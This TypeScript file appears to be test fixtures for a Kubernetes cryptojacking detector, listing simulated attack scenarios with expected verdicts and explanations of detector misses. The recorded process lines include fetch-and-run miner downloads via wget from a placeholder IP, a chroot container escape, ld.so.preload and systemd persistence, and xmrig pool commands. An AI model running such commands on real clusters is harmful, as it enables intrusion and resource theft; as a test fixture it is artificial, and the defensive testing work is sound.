import {
  anomalyLine,
  connecting,
  exfiltratedCredentials,
  falcoLine,
  nodeFinding,
  RecordedAudit,
  requestFinding,
  running,
  runningNew,
  runtimeFinding,
  saturated,
  writing,
} from './records';
import type { Attack, LineRecord } from './scenario';

const POOL = 'stratum+tcp://pool.mining.example:3333';

const loud = new RecordedAudit('att-01-loud-deployment');
const anonymous = new RecordedAudit('att-02-anonymous-daemonset');
const backdoor = new RecordedAudit('att-03-rbac-backdoor');
const cronJob = new RecordedAudit('att-05-cronjob-respawn');
const kubeflow = new RecordedAudit('att-06-kubeflow-pipelines');
const proxy = new RecordedAudit('att-07-nodes-proxy');
const escape = new RecordedAudit('att-08-escape-to-host');
const argo = new RecordedAudit('att-09-open-argo-server');
const takeover = new RecordedAudit('att-10-takeover-and-scale-out');
const slow = new RecordedAudit('att-11-low-and-slow');
const tuned = new RecordedAudit('att-16-tuned-for-mining');
const wholeNodes = new RecordedAudit('att-12-whole-nodes');

/** What somebody installed in all honesty, and the pod of it that is taken over later. */
const installs = new RecordedAudit('ben-11-installs');
const victim = installs.pod();
const OWNER_OF_VICTIM = 'Deployment cert-manager';
/** An hour after it was installed. */
const BREAK_IN = installs.startMs + 3_600_000;

/** The recording has no kubelet that could answer, so each request failed; here it reaches the pod and is answered. */
const answered = ({ source, line }: LineRecord): LineRecord => ({
  source,
  line: line
    .replaceAll('/run/web/front-1/main', `/run/${victim.namespace}/${victim.name}/main`)
    .replaceAll('"code":400', '"code":200'),
});

export const ATTACKS: readonly Attack[] = [
  {
    id: 'ATT-01',
    title: 'A stolen token of a build account creates a Deployment of a known miner, in the open',
    records: [
      ...loud.records,
      falcoLine(loud.startMs, 1, loud.pod(), runningNew('/xmrig', `xmrig -o ${POOL} --donate-level=1`)),
      runtimeFinding(loud.startMs, 6, 'Impact:Runtime/CryptoMinerExecuted', loud.pod()),
    ],
    expected: {
      state: 'quarantine',
      hypothesis: 'mining',
      about: 'Deployment cache-warmer',
      actor: 'system:serviceaccount:shop:ci',
    },
  },
  {
    id: 'ATT-02',
    title: 'Somebody without a name creates a DaemonSet that looks like a part of Kubernetes and tells nothing',
    records: [
      ...anonymous.records,
      falcoLine(anonymous.startMs, 2, anonymous.pod(), runningNew('/usr/bin/pause')),
      requestFinding(anonymous.startMs, 8, 'Discovery:Kubernetes/SuccessfulAnonymousAccess', {
        ...anonymous.owner('daemonsets', 'DaemonSet'),
        type: 'daemonsets',
      }),
      saturated(anonymous.startMs, 2, anonymous.pod(), anonymous.owner('daemonsets', 'DaemonSet')),
    ],
    expected: {
      state: 'quarantine',
      hypothesis: 'mining',
      about: 'DaemonSet proxy-api',
      actor: 'system:anonymous',
    },
  },
  {
    id: 'ATT-03',
    title: 'Somebody without a name makes a back door that looks like a controller, and deploys through it',
    records: backdoor.records,
    expected: {
      state: 'incident',
      hypothesis: 'intrusion',
      about: 'Cluster prod-a',
      actor: 'system:anonymous',
    },
    missed: {
      wanted: 'quarantine',
      why: 'The DaemonSet itself shows no more than its name, its namespace and its tolerations. What its maker did before is evidence about the maker: scores never cross owners.',
    },
  },
  {
    id: 'ATT-04',
    title: 'A hole in an application; a miner is fetched and run in its pod, and the audit log says nothing of it',
    records: [
      ...installs.records,
      falcoLine(BREAK_IN, 0, victim, running('/usr/bin/wget', 'wget -q http://203.0.113.9/a -O /tmp/.x/kdevtmpfsi')),
      falcoLine(BREAK_IN, 1, victim, runningNew('/tmp/.x/kdevtmpfsi', 'kdevtmpfsi')),
      falcoLine(BREAK_IN, 2, victim, running('/usr/bin/pkill', 'pkill -f xmrig')),
      falcoLine(BREAK_IN, 2.2, victim, running('/usr/bin/pkill', 'pkill -f kinsing')),
      falcoLine(BREAK_IN, 2.5, victim, writing('/etc/cron.d/apache-upd')),
      falcoLine(BREAK_IN, 3, victim, connecting(3333, 'pool.supportxmr.com')),
      runtimeFinding(BREAK_IN, 8, 'CryptoCurrency:Runtime/BitcoinTool.B', victim),
    ],
    expected: { state: 'quarantine', hypothesis: 'mining', about: OWNER_OF_VICTIM },
  },
  {
    id: 'ATT-05',
    title: 'A stolen token creates a schedule whose command is encoded, and again under another name elsewhere',
    records: cronJob.records,
    expected: {
      state: 'quarantine',
      hypothesis: 'mining',
      about: 'CronJob tidy',
      actor: 'system:serviceaccount:shop:ci',
    },
  },
  {
    id: 'ATT-06',
    title: 'Pipelines run public images of a machine-learning framework that fetch what they run',
    records: [
      ...kubeflow.records,
      ...[0, 1].map((index) =>
        falcoLine(
          kubeflow.startMs,
          3,
          kubeflow.pod(index),
          runningNew('/tmp/xmrig', `xmrig -o ${POOL} --donate-level=1`),
        ),
      ),
      runtimeFinding(kubeflow.startMs, 9, 'Execution:Runtime/NewBinaryExecuted', kubeflow.pod()),
      anomalyLine(kubeflow.startMs, 0, { percent: 160, usageType: 'EU-BoxUsage:g5.4xlarge' }),
    ],
    expected: { state: 'incident', hypothesis: 'mining', about: 'Pod sequential-pipeline-1' },
  },
  {
    id: 'ATT-07',
    title: 'A service account with rights on nodes/proxy runs a miner in an existing pod through the kubelet',
    records: [
      ...installs.records,
      ...proxy.records.map((record) => answered(record)),
      falcoLine(proxy.startMs, 1, victim, runningNew('/dev/shm/a', 'a')),
      falcoLine(proxy.startMs, 2, victim, connecting(3333, 'pool.supportxmr.com')),
    ],
    expected: {
      state: 'incident',
      hypothesis: 'mining',
      about: OWNER_OF_VICTIM,
      actor: 'system:serviceaccount:web:default',
    },
  },
  {
    id: 'ATT-08',
    title: 'A privileged pod leaves its container, and the miner runs as a service of the node',
    records: [
      ...escape.records,
      falcoLine(escape.startMs, 1, escape.pod(), running('/bin/sh', 'sh -c chroot /host /bin/bash')),
      falcoLine(escape.startMs, 2, escape.pod(), writing('/host/etc/systemd/system/kworker.service')),
      falcoLine(escape.startMs, 3, escape.pod(), writing('/host/etc/ld.so.preload')),
      nodeFinding(escape.startMs, 20, 'CryptoCurrency:EC2/BitcoinTool.B'),
    ],
    expected: { state: 'incident', hypothesis: 'mining', about: 'Pod attack-pod-x7k2q1' },
  },
  {
    id: 'ATT-09',
    title: 'Somebody uses an Argo server without authentication; only the pods tell what the workflow was',
    records: argo.records,
    expected: {
      state: 'quarantine',
      hypothesis: 'mining',
      about: 'Pod hello-world-8z2lm-1',
      actor: 'system:serviceaccount:argo:argo',
    },
  },
  {
    id: 'ATT-10',
    title: 'A taken-over role lets another one in and scales out a plain image with an inline script',
    records: [
      exfiltratedCredentials(takeover.startMs, -20),
      ...takeover.records,
      falcoLine(
        takeover.startMs,
        1,
        takeover.pod(),
        running('/usr/bin/wget', 'wget -q http://203.0.113.9/w -O /tmp/.w'),
      ),
      falcoLine(takeover.startMs, 1.2, takeover.pod(), runningNew('/tmp/.w')),
      anomalyLine(takeover.startMs, 0, { percent: 900 }),
    ],
    expected: { state: 'notify-low', hypothesis: 'mining', about: 'Account 111122223333' },
    missed: {
      wanted: 'incident',
      why: 'A script that fetches what it runs is what builds do all day, so the detectors that would tell more of it (KM-F05, KM-F11) do not count. Those of the taken-over role (KM-B08, KM-G10) do not either.',
    },
  },
  {
    id: 'ATT-11',
    title: 'A renamed miner in an image from the own registry, told by nothing but that it is new',
    records: [
      ...slow.records,
      falcoLine(slow.startMs, 2, slow.pod(), { ...running('/usr/sbin/nginx-worker'), 'proc.name': 'nginx: worker' }),
      saturated(slow.startMs, 60, slow.pod(), slow.owner('deployments', 'Deployment')),
      anomalyLine(slow.startMs, 1, { percent: 30 }),
    ],
    expected: { state: 'notify-low', hypothesis: 'mining', about: 'Account 111122223333' },
    missed: {
      wanted: 'incident',
      why: 'Nothing but a name and the load tells it from a program that is busy, and load alone does not count (KM-M01).',
    },
  },
  {
    id: 'ATT-12',
    title: 'The bill comes first: a first interactive shell, a Deployment that asks for whole nodes, no sensor there',
    records: [...wholeNodes.records, anomalyLine(wholeNodes.startMs, 0, { percent: 160 })],
    expected: { state: 'notify-low', hypothesis: 'mining', about: 'Account 111122223333' },
    missed: {
      wanted: 'incident',
      why: 'A first shell counts only beside other evidence (KM-B03) and a large request does not count (KM-A08), so nobody is suspect whom the bill could be held against.',
    },
  },
  {
    id: 'ATT-16',
    title: 'A miner without a word of it in its arguments sets registers and huge pages of its nodes',
    records: [
      ...tuned.records,
      falcoLine(tuned.startMs, 1, tuned.pod(), running('/sbin/modprobe', 'modprobe msr allow_writes=on')),
      falcoLine(tuned.startMs, 1.1, tuned.pod(), running('/sbin/sysctl', 'sysctl -w vm.nr_hugepages=1280')),
    ],
    expected: {
      state: 'incident',
      hypothesis: 'mining',
      about: 'DaemonSet kube-proxy',
      actor: 'arn:aws:sts::111122223333:assumed-role/build-agent/i-0123456789abcdef0',
    },
  },
];
